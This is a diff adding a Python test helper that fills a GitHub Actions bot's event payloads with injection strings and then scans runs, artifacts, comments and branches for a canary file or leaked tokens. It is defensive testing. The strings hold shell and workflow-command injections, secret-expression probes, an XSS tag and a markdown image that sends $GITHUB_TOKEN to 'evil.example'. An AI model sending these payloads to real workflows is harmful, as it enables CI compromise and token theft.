@@ -1,0 +1,101 @@
+"""What attackers write, put into everything of an event that people write; and a search for what came of it."""
+
+import base64
+import json
+import re
+import zipfile
+from collections.abc import Iterator, Mapping
+from io import BytesIO
+from typing import Any
+
+import cmarkgfm
+from cmarkgfm.cmark import Options
+
+from workflows_act import Actions, Ran
+
+CANARY = "CANARY"
+"""A variable of every step: the file that is made where something is executed. Folders of a run are gone afterwards."""
+SHELL = "$(touch $CANARY)`touch $CANARY`'$(touch $CANARY)'; touch $CANARY; '\"; touch $CANARY; \"|touch $CANARY&"
+"""For a shell that meets it inside of quotes, whichever."""
+LINES = (
+    "--no-sandbox --config=/evil * ~ %s; touch $CANARY; $(touch $CANARY) `touch $CANARY` | touch $CANARY #\n"
+    "touch $CANARY\nEOF\n::add-path::/evil\n::set-env name=PATH::/evil\n::set-output name=token::evil\n"
+    "${{ secrets.REGBOT_PRIVATE_KEY }} ${{ github.token }} ${{ toJSON(secrets) }}\n"
+    "@everyone <img src=x onerror=alert(1)> ![](http://evil.example/$GITHUB_TOKEN) \x1b[31m \u202e"
+)
+"""For one that meets it outside of quotes, for the runner's own commands and expressions, and for those who read it."""
+TEXTS = {"quoted": SHELL, "lines": LINES}
+BRANCH = "x;touch${IFS}$CANARY;'\"$(touch${IFS}$CANARY)`touch${IFS}$CANARY`"
+"""A name that git takes."""
+FREE = {"title", "display_title", "body", "message", "description", "subject"}
+"""Keys of an event whose values people write; and those of a label and a person below them. A branch is BRANCH."""
+NAMED = {"label": {"name"}, "labels": {"name"}, "user": {"login"}, "author": {"name"}}
+
+
+def hostile(payload: Mapping[str, Any], text: str) -> dict[str, Any]:
+    """``payload`` with ``text`` wherever a person could have written it."""
+
+    def within(value: Any, key: str) -> Any:
+        if isinstance(value, dict):
+            keys = FREE | NAMED.get(key, set())
+            return {
+                each: text if each in keys and isinstance(old, str) else within(old, each)
+                for each, old in value.items()
+            }
+        if isinstance(value, list):
+            return [within(each, key) for each in value]
+        return value
+
+    changed: dict[str, Any] = within(dict(payload), "")
+    assert json.dumps(text)[1:-1] in json.dumps(changed) or "schedule" in payload
+    return changed
+
+
+def leaks(actions: Actions) -> list[str]:
+    """Where something planted was executed, or a token or secret came to light."""
+    found = [f"{file} was made" for file in actions.folder.parent.glob(CANARY)]
+    tokens = [*actions.hub.tokens, *actions.secrets.values()]
+    needles = [needle for token in tokens for needle in _forms(token)]
+    for place, content in _public(actions):
+        found += [f"{place} holds a token" for needle in needles if needle in content]
+    return found
+
+
+def inert(markdown: str) -> list[str]:
+    """What a comment would load, link to or shout when GitHub shows it, and regbot never means; [] if inert."""
+    page = cmarkgfm.github_flavored_markdown_to_html(markdown, Options.CMARK_OPT_UNSAFE)
+    outside = re.sub(r"<(code|pre)\b.*?</\1>", "", page, flags=re.DOTALL)
+    found = re.findall(r"<(?:img|script|iframe|h1|input|style)\b[^>]*>|on\w+=[^\s>]*|@everyone", outside)
+    return found + [link for link in re.findall(r'href="([^"]*)"', page) if "evil" in link or "CANARY" in link]
+
+
+def _forms(token: str) -> list[bytes]:
+    return [token.encode(), base64.b64encode(f"x-access-token:{token}".encode())]
+
+
+def _public(actions: Actions) -> Iterator[tuple[str, bytes]]:
+    """Everything that others can read afterwards."""
+    repo = actions.repo
+    for ran in actions.runs:
+        yield f"the log of run {ran.run.id}", _log(ran)
+        for artifact in ran.run.artifacts:
+            yield f"the artifact {artifact.name}", artifact.content
+            with zipfile.ZipFile(BytesIO(artifact.content)) as archive:
+                for name in archive.namelist():
+                    yield f"{name} in the artifact {artifact.name}", archive.read(name)
+    for comment in repo.all_comments.values():
+        yield f"comment {comment.id}", comment.body.encode()
+    for check in repo.all_checks.values():
+        yield f"check run {check.id}", f"{check.title}{check.summary}{check.text}{check.annotations}".encode()
+    for dispatch in repo.dispatched:
+        yield f"a dispatch of {dispatch.workflow}", str(dispatch.inputs).encode()
+    for pull in repo.pulls.values():
+        yield f"pull request {pull.number}", f"{pull.title}{pull.body}".encode()
+    refs = repo.git.refs("refs/heads")
+    yield "the branches", repo.git.run("log", "-p", *refs.values()).encode() if refs else b""
+
+
+def _log(ran: Ran) -> bytes:
+    """Without the line in which ``act`` shows the output of the action that makes the App's token; GitHub masks it."""
+    lines = ran.log.splitlines()
+    return "\n".join(line for line in lines if "⚙  ::set-output:: token=ghs_" not in line).encode()
